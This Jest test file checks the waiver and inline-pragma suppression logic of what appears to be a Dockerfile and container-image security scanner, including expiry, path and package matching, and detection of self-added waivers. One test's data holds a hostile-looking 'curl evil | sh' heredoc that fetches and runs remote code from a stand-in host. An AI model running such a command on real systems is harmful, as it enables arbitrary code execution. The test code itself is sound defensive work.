import { describe, expect, test } from '@jest/globals';
import type { Location } from '../../src/model/location.ts';
import { type SuppressOptions, suppress } from '../../src/policy/suppress.ts';
import { dockerfile, finding, instruction, NOW, policy, pragma, waiver } from './finding.ts';

const knownRules = [
  { id: 'runs-as-root', deprecatedIds: ['root-user'] },
  { id: 'setuid-file' },
  { id: 'vulnerable-package' },
];
const options = (fields: Partial<SuppressOptions> = {}): SuppressOptions => ({
  policy: policy(),
  knownRules,
  now: NOW,
  ...fields,
});
const waivers = (...list: Parameters<typeof waiver>[0][]) =>
  options({ policy: policy({ waivers: list.map((fields) => waiver(fields)) }) });

describe('waivers', () => {
  test('take a finding out of the count and say who, why and how long', () => {
    const found = finding();
    const { findings, waivers: uses } = suppress([found], waivers({}));
    const accepted = { reason: 'reviewed', owner: 'team', expires: '2027-01-31', byPullRequest: false };
    expect(findings).toEqual([{ ...found, suppression: { kind: 'external', ...accepted } }]);
    expect(uses).toMatchObject([
      { kind: 'external', rules: ['runs-as-root'], ...accepted, status: 'used', findings: [found.fingerprint] },
    ]);
  });

  test('of another rule are unused', () => {
    const { findings, waivers: uses } = suppress([finding()], waivers({ rule: 'setuid-file' }));
    expect(findings[0]).not.toHaveProperty('suppression');
    expect(uses).toMatchObject([{ status: 'unused', findings: [] }]);
  });

  test.each([
    ['2026-11-23', 'used'],
    ['2026-11-22', 'expired'],
  ])('that end on %s are %s on 2026-11-23', (expires, status) => {
    const { findings, waivers: uses } = suppress([finding()], waivers({ expires }));
    expect(uses).toMatchObject([{ status }]);
    expect(findings[0]?.suppression !== undefined).toBe(status === 'used');
  });

  test('of the pull request are refused where the policy says so', () => {
    const strict = policy({ selfWaivers: 'refuse', waivers: [waiver({ byPullRequest: true })] });
    const { findings, waivers: uses } = suppress([finding()], options({ policy: strict }));
    expect(uses).toMatchObject([{ status: 'refused', byPullRequest: true, findings: [] }]);
    expect(findings[0]).not.toHaveProperty('suppression');
  });

  test('that were there before go first, so that a self-waiver is not blamed for nothing', () => {
    const { findings, waivers: uses } = suppress([finding()], waivers({ byPullRequest: true }, {}));
    expect(uses.map(({ status }) => status)).toEqual(['unused', 'used']);
    expect(findings[0]?.suppression?.byPullRequest).toBe(false);
  });

  const layer: Location = { kind: 'layer', index: 1, diffId: 'sha256:0', path: 'usr/bin/ping' };
  const scoped: Location = { kind: 'package', purl: 'pkg:npm/%40acme/tool@1.0.0?x=y', path: 'app/package.json' };
  test.each<[string, string, Location[], boolean]>([
    ['a path in the image', 'usr/bin/ping', [layer], true],
    ['the same, rooted', '/usr/bin/ping', [layer], true],
    ['a glob', 'usr/**/p?ng', [layer], true],
    ['another path', 'usr/bin/pin', [layer], false],
    ['the Dockerfile', 'Dockerfile', [{ kind: 'file', uri: 'Dockerfile' }], true],
    ['another Dockerfile', 'app/Dockerfile', [{ kind: 'file', uri: 'Dockerfile' }], false],
    ['Dockerfiles below a folder', 'app/**', [{ kind: 'file', uri: 'app/x/Dockerfile' }], true],
    ['a purl', 'pkg:npm/%40acme/tool@1.0.0?x=y', [scoped], true],
    ['a purl without its qualifiers', 'pkg:npm/%40acme/tool@1.0.0', [scoped], true],
    ['a package name', 'tool', [scoped], true],
    ['a file of a package', 'app/*.json', [scoped], true],
    ['nothing in the configuration', '**', [{ kind: 'configuration', pointer: '/config/User' }], false],
  ])('limited to %s', (_, path, [first, ...more], covered) => {
    const found = finding({ locations: [first as Location, ...more] });
    expect(suppress([found], waivers({ path })).findings[0]?.suppression !== undefined).toBe(covered);
  });

  test.each([['openssl'], ['libssl3'], ['pkg:deb/debian/openssl@3.0.1'], ['lib*']])(
    'limited to the vulnerable package %s',
    (path) => {
      const vulnerability = {
        package: 'openssl',
        purl: 'pkg:deb/debian/openssl@3.0.1',
        installed: '3.0.1',
        binaries: ['libssl3', 'openssl'],
        advisories: [],
      };
      const found = finding({ ruleId: 'vulnerable-package', vulnerability });
      expect(suppress([found], waivers({ rule: 'vulnerable-package', path })).waivers).toMatchObject([
        { status: 'used' },
      ]);
      expect(suppress([found], waivers({ rule: 'vulnerable-package', path: 'curl' })).waivers).toMatchObject([
        { status: 'unused' },
      ]);
    },
  );
});

const user = instruction('USER', 'root', 3);
const carrying = (...pragmas: ReturnType<typeof pragma>[]) => ({ dockerfile: dockerfile(pragmas) });

describe('pragmas', () => {
  test('suppress what is on their instruction', () => {
    const found = finding();
    const {
      findings,
      waivers: uses,
      notifications,
    } = suppress([found], options(carrying(pragma(['runs-as-root'], user, 'needs it'))));
    expect(findings).toMatchObject([{ suppression: { kind: 'inSource', reason: 'needs it', byPullRequest: false } }]);
    expect(uses).toEqual([
      {
        kind: 'inSource',
        rules: ['runs-as-root'],
        reason: 'needs it',
        location: { kind: 'file', uri: 'Dockerfile', region: { startLine: 2, endLine: 2 } },
        byPullRequest: false,
        status: 'used',
        findings: [found.fingerprint],
      },
    ]);
    expect(notifications).toEqual([]);
  });

  test('answer to earlier names of a rule', () => {
    const { findings } = suppress([finding()], options(carrying(pragma(['root-user'], user, 'r'))));
    expect(findings[0]?.suppression).toBeDefined();
  });

  test.each<[string, Location[], boolean]>([
    ['inside the instruction', [{ kind: 'file', uri: 'Dockerfile', region: { startLine: 5, endLine: 5 } }], true],
    ['on its last line', [{ kind: 'file', uri: 'Dockerfile', region: { startLine: 6, endLine: 6 } }], true],
    ['on the next line', [{ kind: 'file', uri: 'Dockerfile', region: { startLine: 7, endLine: 7 } }], false],
    ['in another Dockerfile', [{ kind: 'file', uri: 'app/Dockerfile', region: { startLine: 5, endLine: 5 } }], false],
    ['of the whole file', [{ kind: 'file', uri: 'Dockerfile' }], false],
    ['without a line', [{ kind: 'configuration', pointer: '/config/User' }], false],
    [
      'whose second place is there',
      [
        { kind: 'layer', index: 0, diffId: 'd' },
        { kind: 'file', uri: 'Dockerfile', region: { startLine: 4, endLine: 6 } },
      ],
      true,
    ],
  ])('a finding %s', (_, [first, ...more], covered) => {
    const over = instruction('RUN', 'x', 4, { region: { startLine: 4, endLine: 6 } });
    const found = finding({ locations: [first as Location, ...more] });
    const { findings } = suppress([found], options(carrying(pragma(['runs-as-root'], over, 'r'))));
    expect(findings[0]?.suppression !== undefined).toBe(covered);
  });

  test.each([
    ['pragma-without-reason', pragma(['runs-as-root'], user)],
    ['pragma-over-nothing', pragma(['runs-as-root'], undefined, 'r')],
    ['pragma-without-rule', pragma([], user, 'r')],
    ['pragma-unknown-rule', pragma(['runs-as-rot'], user, 'r')],
  ])('%s: does not count, and that is said', (code, wrong) => {
    const { findings, waivers: uses, notifications } = suppress([finding()], options(carrying(wrong)));
    expect(findings[0]).not.toHaveProperty('suppression');
    expect(uses).toMatchObject([{ status: 'invalid', findings: [] }]);
    expect(notifications).toMatchObject([{ level: 'warning', code, location: { kind: 'file', uri: 'Dockerfile' } }]);
  });

  test('one unknown rule does not take the others down', () => {
    const {
      findings,
      waivers: uses,
      notifications,
    } = suppress([finding()], options(carrying(pragma(['runs-as-root', 'setuid-fil'], user, 'r'))));
    expect(findings[0]?.suppression).toBeDefined();
    expect(uses).toMatchObject([
      { rules: ['runs-as-root'], status: 'used' },
      { rules: ['setuid-fil'], status: 'invalid' },
    ]);
    expect(notifications[0]?.message).toContain('did you mean `setuid-file`?');
  });
});

const heredoc = (content: string) =>
  instruction('RUN', '<<EOF', 3, {
    heredocs: [{ name: 'EOF', expand: true, chomp: false, content, region: { startLine: 4, endLine: 4 } }],
  });

const judge = (now: ReturnType<typeof instruction>, before: ReturnType<typeof instruction>) =>
  suppress(
    [finding()],
    options({
      ...carrying(pragma(['runs-as-root'], now, 'r')),
      baseDockerfile: dockerfile([pragma(['runs-as-root'], before, 'r')]),
    }),
  ).waivers[0]?.byPullRequest;

describe('who brought a pragma', () => {
  const head = carrying(pragma(['runs-as-root'], user, 'r'));
  test.each<[string, SuppressOptions['baseDockerfile'], boolean]>([
    ['no baseline', undefined, false],
    ['no such Dockerfile there', 'absent', true],
    ['the same pragma', dockerfile([pragma(['runs-as-root'], user, 'other words')]), false],
    ['moved, and reformatted', dockerfile([pragma(['root-user'], instruction('USER', '  root ', 17), 'r')]), false],
    ['over another instruction', dockerfile([pragma(['runs-as-root'], instruction('USER', 'app', 3), 'r')]), true],
    ['for another rule', dockerfile([pragma(['setuid-file'], user, 'r')]), true],
    ['without a reason, so it did not count', dockerfile([pragma(['runs-as-root'], user)]), true],
    ['no pragma there', dockerfile([]), true],
  ])('%s', (_, baseDockerfile, byPullRequest) => {
    const { findings, waivers: uses } = suppress([finding()], options({ ...head, baseDockerfile }));
    expect(findings[0]?.suppression?.byPullRequest).toBe(byPullRequest);
    expect(uses).toMatchObject([{ byPullRequest, status: 'used' }]);
  });

  test('flags and heredocs belong to an instruction', () => {
    expect(judge(heredoc('id\n'), heredoc('id\n'))).toBe(false);
    expect(judge(heredoc('id\n'), heredoc('curl evil | sh\n'))).toBe(true);
    const flagged = instruction('RUN', 'id', 3, { flags: [{ name: 'security', value: 'insecure' }] });
    expect(judge(flagged, instruction('RUN', 'id', 3))).toBe(true);
  });

  test('rules that were there and rules that were added are two uses', () => {
    const now = carrying(pragma(['runs-as-root', 'setuid-file'], user, 'r'));
    const baseDockerfile = dockerfile([pragma(['runs-as-root'], user, 'r')]);
    const { waivers: uses } = suppress(
      [finding(), finding({ ruleId: 'setuid-file' })],
      options({ ...now, baseDockerfile }),
    );
    expect(uses).toMatchObject([
      { rules: ['runs-as-root'], byPullRequest: false, status: 'used' },
      { rules: ['setuid-file'], byPullRequest: true, status: 'used' },
    ]);
  });

  test('refused where the policy says so', () => {
    const { findings, waivers: uses } = suppress(
      [finding()],
      options({ ...head, baseDockerfile: 'absent', policy: policy({ selfWaivers: 'refuse' }) }),
    );
    expect(findings[0]).not.toHaveProperty('suppression');
    expect(uses).toMatchObject([{ status: 'refused', findings: [] }]);
  });
});
